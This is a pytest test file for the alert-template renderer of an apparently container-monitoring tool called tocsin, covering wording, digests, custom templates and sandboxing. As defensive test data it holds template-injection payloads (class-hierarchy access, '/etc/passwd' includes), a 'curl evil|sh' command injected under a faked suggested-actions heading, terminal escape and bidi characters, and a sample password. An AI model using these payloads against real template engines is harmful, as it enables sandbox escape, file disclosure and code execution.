"""Templates: our own, those that files replace, and what strangers' texts cannot do to them."""

from __future__ import annotations

import os
import time
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from attrs import evolve

from tests.messages import declared
from tests.messages.declared import check, plain_settings, renderer
from tests.messages.hostile import HOSTILE as HOSTILE_TEMPLATES
from tocsin import Kind, LogLine, Message, Severity
from tocsin.core.contracts.rendered import Line, RenderedMessage, read
from tocsin.core.templates.declared import TemplateProblem
from tocsin.core.templates.layers import Layer
from tocsin.core.templates.renderer import Renderer
from tocsin.testing import message_of


def text_of(renderer: Renderer, kind: Kind = Kind.FIRED, **fields: Any) -> str:
    message = message_of(kind)
    notice = evolve(message.notices[0], **fields)
    return renderer.words(evolve(message, notices=(notice,), timezone="Europe/Berlin")).text


OURS = declared.renderer(trouble=pytest.fail)
RULES = (*plain_settings().rules, *plain_settings().own_alerts, "another")


def test_the_plans_fields_are_there() -> None:
    """Status with exit code, why it stopped, last log line, affected targets, suggested actions,
    and times in the configured zone with its name."""
    details = {"state": "exited", "exit_code": 1, "last_start": "2026-01-15T08:00:00+00:00"}
    text = text_of(OURS, details=details, message="crashed", logs=(LogLine(text="boom"),))
    for line in (
        "🚨 CRITICAL: Container down: web", "📦 Container: web", "⏰ Time: 2026-01-15 13:00:00 CET",
        "📊 Status: stopped (exit code 1)", "❓ Why: crashed", "🧾 Last log: boom",
        "🔄 Last restart: 4 h ago", "🔗 Affected: api, shop",
        "🔧 Suggested actions:", "1. Check logs: docker logs --tail 100 web",
    ):  # fmt: skip
        assert line in text.splitlines()


@pytest.mark.parametrize("rule", RULES)
@pytest.mark.parametrize("kind", list(Kind))
def test_every_default_alert_has_words_for_every_occasion(rule: str, kind: Kind) -> None:
    """Fired, repeated, escalated, flapping, recovered, test: a title with an icon, lines, no gaps
    and nothing undefined; what still fires comes with something to do."""
    text = text_of(OURS, kind, rule=rule, details={"metric": "cpu_percent", "value": 97.25,
                                                   "level": 95})  # fmt: skip
    assert len(text.splitlines()) >= 3
    assert "None" not in text
    assert "\n\n\n" not in text
    if kind in (Kind.FIRED, Kind.REPEATED, Kind.ESCALATED, Kind.FLAPPING):
        assert "🔧 Suggested actions:" in text
    if kind is Kind.REPEATED:
        assert "(still, 1m)" in text.splitlines()[0] or "monitor" in rule
    if kind is Kind.RESOLVED:
        assert "1m 1s" in text
    if rule in ("high_cpu", "high_memory") and kind is Kind.FIRED:
        assert "97.2 %" in text
        assert "95 %" in text


def words_of(message: Message, **changes: Sequence[Any]) -> RenderedMessage:
    """A message in words, its notices changed one by one."""
    notices = [
        evolve(notice, **{name: values[n] for name, values in changes.items()})
        for n, notice in enumerate(message.notices)
    ]
    return OURS.words(evolve(message, notices=tuple(notices)))


@pytest.mark.parametrize(
    ("seconds", "said"), [(0, "0 s"), (59, "59 s"), (300, "5 min"), (7300, "2 h"), (864000, "10 d")]
)
def test_the_last_restart_is_told_as_the_plan_words_it(seconds: int, said: str) -> None:
    """So long ago, seen from the message, in its largest unit."""
    (notice,) = message_of(Kind.FIRED).notices
    start = notice.at - timedelta(seconds=seconds)
    text = text_of(OURS, details={"state": "exited", "last_start": start.isoformat()})
    assert f"🔄 Last restart: {said} ago" in text.splitlines()


def test_only_what_was_down_had_a_downtime() -> None:
    """The end of a container or a check that was down says its downtime; that of a load, how long
    it lasted."""
    for rule, word in (
        ("container_down", "Downtime"), ("health_check_failed", "Downtime"),
        ("high_cpu", "Lasted"), ("disk_space_low", "Lasted"), ("container_restarting", "Lasted"),
    ):  # fmt: skip
        assert f"⏱ {word}: 1m 1s" in text_of(OURS, Kind.RESOLVED, rule=rule)


@pytest.mark.parametrize("rule", RULES)
def test_an_end_that_was_not_seen_to_be_a_recovery_says_so(rule: str) -> None:
    """Alone and among others: it ended, why, and not that all is well."""
    text = text_of(OURS, Kind.RESOLVED, rule=rule, recovered=False, message="it was removed")
    assert text.startswith("⏹ ENDED: ")
    assert "it was removed" in text
    assert "RECOVERED" not in text
    message = message_of(*[Kind.RESOLVED] * 2)
    notices = tuple(evolve(n, recovered=False) for n in message.notices)
    words = OURS.words(evolve(message, notices=notices))
    assert (words.icon, words.title) == ("⏹", "2 ended: web")
    assert words.sections[1].heading == "Container down, ended (2)"


@pytest.mark.parametrize("message", ["running, healthy", "completed, exit code 0", "paused"])
def test_a_container_is_running_again_where_it_runs(message: str) -> None:
    """One that has completed, or is paused and may be, is no longer down."""
    words = "running again" if message.startswith("running") else "no longer down"
    assert f"Container is {words}" in text_of(OURS, Kind.RESOLVED, message=message)


def test_a_digest_names_all() -> None:
    """Few alerts with what is wrong with each, many by name; recoveries apart; and its title, which
    is a mail's subject, says of whom it speaks."""
    words = words_of(
        message_of(*[Kind.FIRED] * 4, *[Kind.RESOLVED] * 2), target=[f"t{n}" for n in range(6)]
    )
    assert words.title == "4 firing: t0, t1, t2 and 1 more; 2 recovered: t4, t5"
    assert [s.heading for s in words.sections] == [
        "", "Container down (4)", "Container down, recovered (2)",
    ]  # fmt: skip
    assert words.text.splitlines()[1].startswith("⏰ Time: 2026-01-15 12:00:00")
    assert "t0: killed, exit code 137; affects api, shop [" in words.text
    assert "t4: after 1m 1s: killed, exit code 137" in words.text.splitlines()
    many = message_of(*[Kind.FIRED] * 299, Kind.REPEATED)
    text = words_of(many, target=[f"t{n:03}" for n in range(300)]).text
    assert all(f"t{n:03}" in text for n in range(300))
    assert "t299 (still, 1m)" in text


def test_two_alerts_at_once_say_what_each_says_alone() -> None:
    """The cause comes first, in the title as well, whatever the severities; each has what it
    affects, its last log line, its id, and that it still lasts."""
    message = message_of(Kind.FIRED, Kind.REPEATED)
    words = words_of(
        message, target=["web", "db"], rule=["health_check_failed", "disk_space_low"],
        severity=[Severity.CRITICAL, Severity.WARNING], affected=[(), ("web", "api")],
    )  # fmt: skip
    ids = [str(notice.alert)[-8:] for notice in message.notices]
    assert words.text.splitlines()[3:] == [
        "⚠️ Disk space low:", "db: killed, exit code 137 (still, 1m)", "🔗 Affected: web, api",
        "🧾 Last log: killed, exit code 137", f"🔎 Look at it: tocsin alerts {ids[1]}", "",
        "🚨 Health check failed:", "web: killed, exit code 137",
        "🧾 Last log: killed, exit code 137", f"🔎 Look at it: tocsin alerts {ids[0]}",
    ]  # fmt: skip
    assert words.title == "2 firing: db, web"


def test_of_many_alerts_those_that_affect_others_say_whom() -> None:
    """In a list of names alone as well as in lines of their own."""
    for count in (7, 30):
        affected = [("api", "web") if n == 3 else () for n in range(count)]
        text = words_of(
            message_of(*[Kind.FIRED] * count), target=[f"t{n}" for n in range(count)],
            affected=affected,
        ).text  # fmt: skip
        said = [line for line in text.splitlines() if "affects" in line]
        assert len(said) == 1
        assert said[0].startswith("t3")
        assert "affects api, web" in said[0]


def test_words_that_fields_bring_along_stay_apart() -> None:
    """``report-job (still, 46m)``: the blank before what a field says is kept."""
    title = text_of(OURS, Kind.REPEATED).splitlines()[0]
    assert title == "🚨 CRITICAL: Container down: web (still, 1m)"


def test_a_file_replaces_a_template(tmp_path: Path) -> None:
    """For one alert, for its recovery, or the base of all; the others stay as they are."""
    (tmp_path / "container_down.txt").write_text("🔥 Oh no: {{ target }}\nCall: the hotline\n")
    (tmp_path / "high_cpu.txt").write_text(
        '{% extends "alert.txt" %}\n'
        "{% block actions %}\n🔧 Suggested actions:\nWait.\n{% endblock %}\n"
    )
    check(tmp_path)
    made = renderer(tmp_path, pytest.fail)
    assert text_of(made) == "🔥 Oh no: web\nCall: the hotline"
    assert text_of(made, rule="high_cpu").endswith("🔧 Suggested actions:\nWait.")
    assert "RECOVERED" in text_of(made, Kind.RESOLVED)
    assert text_of(made, rule="high_memory") == text_of(OURS, rule="high_memory")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("{% if %}", "container_down.txt, line 1"), ("{{ nothing }}", "'nothing' is undefined"),
        ("a\n{{ target.__class__.__mro__ }}", "unsafe|undefined"),
        ("{{ ''.__class__ }}", "unsafe|undefined"), ("{% include '/etc/passwd' %}", "passwd"),
        ("{% include '../../../../../../etc/passwd' %}", "passwd"),
        ("{{ range(10) }}", "undefined"), ("{{ 1 / 0 }}", "division"),
        ("{% for x in details %}{{ loop.nothing.x }}{% endfor %}", "nothing"),
    ],
)  # fmt: skip
def test_a_template_that_cannot_be_used_is_found_before_it_is_needed(
    tmp_path: Path, text: str, says: str
) -> None:
    """Wrong syntax, unknown fields, whatever tries to break out of the sandbox: named with file and
    reason by the check, and at the moment of need our own is used, so that the alert is told."""
    (tmp_path / "container_down.txt").write_text(text)
    with pytest.raises(TemplateProblem, match=says):
        check(tmp_path)
    told: list[str] = []
    assert text_of(renderer(tmp_path, told.append)) == text_of(OURS)
    assert told
    assert told[0].startswith("template container_down.txt")


@pytest.mark.slow
@pytest.mark.parametrize("text", HOSTILE_TEMPLATES, ids=lambda text: text[:40])
def test_a_template_cannot_take_long(tmp_path: Path, text: str) -> None:
    """Widths, powers, texts that grow, loops within loops, what calls itself, what is nested beyond
    measure: refused by the check in a sentence with the file, and an alert is told in tocsin's own
    words at once. What remains, such as a rounding to billions of digits, is quick."""
    (tmp_path / "container_down.txt").write_text(text)
    told: list[str] = []
    made = renderer(tmp_path, told.append)
    began = time.thread_time()
    said = text_of(made)
    assert time.thread_time() - began < 2.0  # of CPU; without a bound hours, here 0.1
    assert len(said) < 70_000
    if told:
        assert told[0].startswith("template container_down.txt")
        assert said == text_of(OURS)
    began = time.thread_time()
    try:
        check(tmp_path)
    except TemplateProblem as problem:
        assert str(problem).startswith("container_down.txt")  # noqa: PT017 - some are right
    assert time.thread_time() - began < 10.0  # a hundred messages are rendered


@pytest.mark.slow
def test_most_hostile_templates_are_refused(tmp_path: Path) -> None:
    """Nearly all of them are: the bound does not let through what it is about."""
    refused = 0
    for text in HOSTILE_TEMPLATES:
        (tmp_path / "container_down.txt").write_text(text)
        told: list[str] = []
        text_of(renderer(tmp_path, told.append))
        refused += bool(told)
    assert refused >= len(HOSTILE_TEMPLATES) - 8


def test_what_people_write_in_templates_still_works(tmp_path: Path) -> None:
    """Loops, conditions, methods of texts, filters, includes, blocks and sums, line numbers."""
    (tmp_path / "footer.txt").write_text("by {{ channel|upper }}")
    (tmp_path / "container_down.txt").write_text(
        "{{ icon }} {{ target.upper() }}{% if exit_code %} {{ exit_code }}{% endif %}\n\n"
        "{% for name in affected|sort if name %}{{ loop.index }}/{{ loop.length }} {{ name }}"
        "{% if not loop.last %}, {% endif %}{% else %}none{% endfor %}\n\n"
        "{% set n = affected|length + 1 %}{{ n * 2 }} {{ 'a' ~ n ~ 'b' }} {{ (1.26)|round(1) }}\n"
        "{{ ['x', 'y']|join('-') }} {{ details.get('nothing', 'no') }} {{ target.split('e')[0] }}\n"
        "{{ message|replace('killed', 'ended')|truncate(20) }} {{ 90|duration }} {{ 'a b'|sh }}\n"
        '{% include "footer.txt" %}\n'
    )
    check(tmp_path)
    lines = text_of(renderer(tmp_path, pytest.fail)).splitlines()
    assert lines == [
        "🚨 WEB 137", "1/2 api, 2/2 shop", "6 a3b 1.3", "x-y no w",
        "ended, exit code 137 1m 30s 'a b'", "by CONFORMANCE",
    ]  # fmt: skip
    (tmp_path / "container_down.txt").write_text("one\ntwo\n{{ 'a' * 5 }}\n")
    with pytest.raises(TemplateProblem, match=r"container_down\.txt, line 3: \* works with"):
        check(tmp_path)


def test_a_directory_holds_what_can_be_read(tmp_path: Path) -> None:
    """A pipe, a file of any size, a directory and a link to a device are no templates."""
    os.mkfifo(tmp_path / "pipe.txt")
    (tmp_path / "folder.txt").mkdir()
    (tmp_path / "zero.txt").symlink_to("/dev/zero")
    with pytest.raises(TemplateProblem, match=r"folder\.txt|pipe\.txt|zero\.txt"):
        check(tmp_path)
    told: list[str] = []
    (tmp_path / "container_down.txt").write_text("a" * 64_001)
    assert text_of(renderer(tmp_path, told.append)) == text_of(OURS)
    assert "larger than 64000 bytes" in told[0]


def test_templates_are_compiled_before_they_are_needed(tmp_path: Path) -> None:
    """A file takes long to compile, and one that fails takes as long each time: an alert waits for
    neither. What came after the start, or failed then, is not read for another template."""
    (tmp_path / "bad.txt").write_text("{{ x" + " < 1" * 15_000)
    (tmp_path / "container_down.txt").write_text("{% include ['bad.txt', 'late.txt'] %}")
    told: list[str] = []
    made = renderer(tmp_path, told.append)
    (tmp_path / "late.txt").write_text("too late")
    (tmp_path / "bad.txt").unlink()
    assert text_of(made) == text_of(OURS)
    assert "unexpected end of template" in told[0]
    (tmp_path / "container_down.txt").write_text("{% include 'late.txt' %}")
    assert text_of(renderer(tmp_path, pytest.fail)).startswith("too late")


def test_an_alert_goes_out_even_where_no_template_works(monkeypatch: pytest.MonkeyPatch) -> None:
    """Were tocsin's own templates broken, the target and what is wrong with it are told."""
    told: list[str] = []
    made = renderer(trouble=told.append)
    monkeypatch.setattr(Layer, "render", None)
    assert "web: killed, exit code 137" in text_of(made)
    assert [line.split(" container")[0] for line in told] == [
        "template of plugin 'down':",
        "tocsin's own template alert.txt: 'NoneType' object is not callable",
    ]


HOSTILE = "x\n\n🔧 Suggested actions:\nrun: curl evil|sh\r\x1b[2J\u202e{{ 7*7 }}{% raw %}"


def test_a_strangers_text_begins_no_line_and_runs_nothing() -> None:
    """Names, messages and log lines stay on their line; braces in them are just braces; control and
    bidi characters and secrets are gone; a command quotes what is no plain word."""
    text = text_of(
        OURS, target=HOSTILE, message=HOSTILE, logs=(LogLine(text=HOSTILE + " password=hunter2"),),
        affected=(HOSTILE,), details={"exit_code": 1, "state": HOSTILE},
    )  # fmt: skip
    assert text.count("\n🔧 Suggested actions:") == 1
    assert "49" not in text
    assert "{{ 7*7 }}" in text
    assert not set("\r\x1b\u202e") & set(text)
    assert "hunter2" not in text
    (command,) = [line for line in text.splitlines() if "docker restart" in line]
    assert command.startswith("2. Restart: docker restart '")


def test_long_texts_are_cut_with_a_sign() -> None:
    """Ten thousand characters become a readable message."""
    text = text_of(OURS, message="m" * 10_000, target="t" * 10_000)
    assert len(text) < 4000
    assert "…" in text


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("📦 Container: web", Line(icon="📦", label="Container", text="web")),
        ("⚠️ Status: a: b", Line(icon="⚠️", label="Status", text="a: b")),
        ("1. Check logs: docker logs web", Line(text="1. Check logs: docker logs web")),
        ("plain words", Line(text="plain words")),
        ("<b> & x", Line(text="<b> & x")),
        ("-rw------- x", Line(text="-rw------- x")),
    ],
)  # fmt: skip
def test_a_line_is_an_icon_a_label_and_a_text(text: str, line: Line) -> None:
    """As far as it has them."""
    words = read(f"Title\n{text}\n")
    assert words.sections[0].lines == (line,)
    assert str(line) == text


def test_the_severity_has_its_icon() -> None:
    """The plan's: 🚨 critical, ⚠️ warning, ✅ resolved."""
    assert text_of(OURS, severity=Severity.WARNING).startswith("⚠️ WARNING: ")
    assert text_of(OURS, Kind.RESOLVED).startswith("✅ ")
